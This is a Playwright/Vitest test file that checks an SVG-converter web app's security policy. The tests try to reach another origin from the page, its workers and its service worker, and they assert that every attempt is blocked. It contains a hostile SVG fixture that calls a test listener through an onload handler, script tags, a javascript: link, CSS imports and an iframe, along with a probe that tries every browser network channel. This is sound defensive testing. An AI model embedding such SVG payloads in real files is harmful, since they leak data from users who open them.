import type { Browser, BrowserContext, Page } from 'playwright';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, inject, test } from 'vitest';
import { launchBrowser } from './browser';
import { fixturesZip, readFixture } from './fixture-files';
import { listenOutside, type Outside } from './outside';
import { BatchPage } from './pages/batch-page';
import { appReady, watchPolicy } from './pages/installed-app';

let browser: Browser;
let outside: Outside;
let context: BrowserContext;
let violations: readonly string[];

beforeAll(async () => {
  browser = await launchBrowser();
  outside = await listenOutside();
});

afterAll(async () => {
  await browser.close();
  outside.close();
});

beforeEach(async () => {
  context = await browser.newContext();
  violations = await watchPolicy(context);
});

afterEach(() => context.close());

/** Runs in a page or a worker: every way out that there is, each with what became of it. */
async function callOut(address: string): Promise<Record<string, string>> {
  const scope: object = globalThis;
  const socket = address.replace('http', 'ws');
  const settled = (start: () => Promise<unknown>): Promise<string> =>
    Promise.resolve()
      .then(start)
      .then(
        () => 'reached',
        () => 'blocked',
      );
  const opened = (target: EventTarget, good: string): Promise<void> =>
    new Promise((resolve, reject) => {
      target.addEventListener(good, () => resolve());
      target.addEventListener('error', () => reject(new Error()));
      setTimeout(() => reject(new Error('nothing came')), 3_000);
    });
  const results: Record<string, string> = {
    fetch: await settled(() => fetch(address, { mode: 'no-cors' })),
    post: await settled(() => fetch(address, { method: 'POST', body: 'a drawing', mode: 'no-cors', keepalive: true })),
    request: await settled(async () => {
      const request = new XMLHttpRequest();
      request.open('GET', address);
      const done = opened(request, 'load');
      request.send();
      await done;
    }),
    events: await settled(() => opened(new EventSource(address), 'open')),
    socket: await settled(() => opened(new WebSocket(socket), 'open')),
    module: await settled(() => import(/* @vite-ignore */ `${address}module.js`)),
  };
  if ('importScripts' in scope && typeof scope.importScripts === 'function') {
    const load = scope.importScripts;
    results.script = await settled(async () => load.call(scope, `${address}script.js`));
    results.worker = await settled(() => opened(new Worker(URL.createObjectURL(new Blob([`fetch('${address}')`]))), 'message'));
    return results;
  }
  const element = (html: string): Promise<void> => {
    const template = document.createElement('template');
    template.innerHTML = html;
    const [found] = template.content.children;
    if (!found) throw new Error('no element');
    const loaded = opened(found, 'load');
    document.body.append(found);
    return loaded;
  };
  results.image = await settled(() => element(`<img src="${address}image.png">`));
  results.style = await settled(() => element(`<link rel="stylesheet" href="${address}style.css">`));
  results.object = await settled(() => element(`<object data="${address}object"></object>`));
  results.script = await settled(async () => {
    const script = document.createElement('script');
    script.src = `${address}script.js`;
    const loaded = opened(script, 'load');
    document.body.append(script);
    await loaded;
  });
  results.beacon = navigator.sendBeacon(address, 'a drawing') ? 'sent or blocked' : 'blocked';
  return results;
}

type Ways = Record<string, string>;

const expectJailed = async (evaluate: (run: typeof callOut, address: string) => Promise<Ways>): Promise<void> => {
  const before = outside.reached();
  const { beacon, ...results } = await evaluate(callOut, outside.address);
  for (const [way, result] of Object.entries(results)) expect(`${way}: ${result}`).toBe(`${way}: blocked`);
  expect(Object.keys(results).length).toBeGreaterThan(6);
  // A beacon does not say what became of it.
  if (beacon) await new Promise((resolve) => setTimeout(resolve, 500));
  expect(outside.reached() - before, 'connections that the other origin saw').toBe(0);
};

async function convertedPage(): Promise<BatchPage> {
  const batch = new BatchPage(await context.newPage());
  await batch.open(inject('address'));
  return batch;
}

test('control: without a policy all of it gets out', async () => {
  const blank = await browser.newPage();
  const before = outside.reached();
  const { fetch: fetched, image } = await blank.evaluate(callOut, outside.address);
  expect(fetched).toBe('reached');
  expect(image).toBe('blocked');
  expect(outside.reached()).toBeGreaterThan(before);
  await blank.close();
});

describe.each(['without', 'with'])('%s a service worker', (how) => {
  let batch: BatchPage;

  beforeEach(async () => {
    batch = await convertedPage();
    if (how === 'without') return;
    await appReady(batch.page);
    await batch.page.reload();
    await batch.page.waitForFunction(() => navigator.serviceWorker.controller !== null);
  });

  test('neither the page nor a converter that was made to call out reaches another origin', async () => {
    const sources: boolean[] = [];
    batch.page.on('response', (answer) => /\/turbopack-worker-/.test(answer.url()) && sources.push(answer.fromServiceWorker()));
    await batch.drop([{ name: 'cover.svg', bytes: readFixture('cover.svg') }]);
    await batch.finished();
    const workers = batch.page.workers();
    expect(workers.length).toBeGreaterThan(0);
    expect(sources[0], 'the converter came from the service worker').toBe(how === 'with');
    for (const worker of workers) await expectJailed((run, to) => worker.evaluate(run, to));
    expect(violations, 'of workers').not.toEqual([]);
    const before = violations.length;
    await expectJailed((run, to) => batch.page.evaluate(run, to));
    expect(violations.length, 'of the page').toBeGreaterThan(before);
    for (const worker of context.serviceWorkers()) expect(await worker.evaluate(tryFetch, outside.address)).toBe('blocked');
    expect(context.serviceWorkers().length > 0 || how === 'without').toBe(true);
  });

  test('a hostile drawing is converted, shown and downloaded, and nobody outside hears of it', async () => {
    const before = outside.reached();
    await batch.drop([
      { name: 'hostile.svg', bytes: Buffer.from(hostileDrawing(outside.address)) },
      { name: 'cover.svg', bytes: readFixture('cover.svg') },
    ]);
    await batch.finished();
    expect(await batch.rows.count()).toBe(2);
    expect(await batch.row('hostile.svg').textContent()).toContain('Done');
    await batch.download(/^Download deck/);
    expect(outside.reached() - before).toBe(0);
  });

  test('the policy stops nothing that the page does in normal use', async () => {
    await batch.drop([{ name: 'brand kit.zip', bytes: await fixturesZip() }]);
    await batch.finished();
    for (const kind of [/^Download deck/, /^Download ZIP/, /^Download PNGs/]) await batch.download(kind);
    for (const path of await pagesOf(batch.page)) await batch.page.goto(`${inject('address')}${path}`);
    await batch.page.goto(`${inject('address')}/nowhere`);
    expect(violations).toEqual([]);
  });
});

const tryFetch = (url: string): Promise<string> =>
  fetch(url, { mode: 'no-cors' }).then(
    () => 'reached',
    () => 'blocked',
  );

const pagesOf = async (page: Page): Promise<readonly string[]> =>
  page.evaluate(async () => (await (await fetch('/precache.json')).json()).pages);

const hostileDrawing = (address: string): string => `<?xml version="1.0"?>
<?xml-stylesheet href="${address}sheet.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100" onload="fetch('${address}onload')">
  <script>fetch('${address}script')</script>
  <script href="${address}script.js"/>
  <style>@import url("${address}import.css"); @font-face { font-family: F; src: url("${address}font.woff2") } rect { fill: url("${address}paint.svg#p") }</style>
  <image href="${address}image.png" width="10" height="10"/>
  <image xlink:href="${address}image.svg" width="10" height="10"/>
  <use href="${address}use.svg#a"/>
  <filter id="f"><feImage href="${address}fe.png"/></filter>
  <rect width="50" height="50" filter="url(#f)" style="mask: url('${address}mask.svg#m')"/>
  <text y="90" font-family="F">Hello</text>
  <foreignObject width="100" height="50"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${address}html.png"/><iframe src="${address}frame"/></body></foreignObject>
  <a href="javascript:fetch('${address}link')"><circle cx="100" cy="50" r="20" fill="#c8431a"/></a>
  <animate attributeName="href" values="${address}animate"/>
</svg>`;
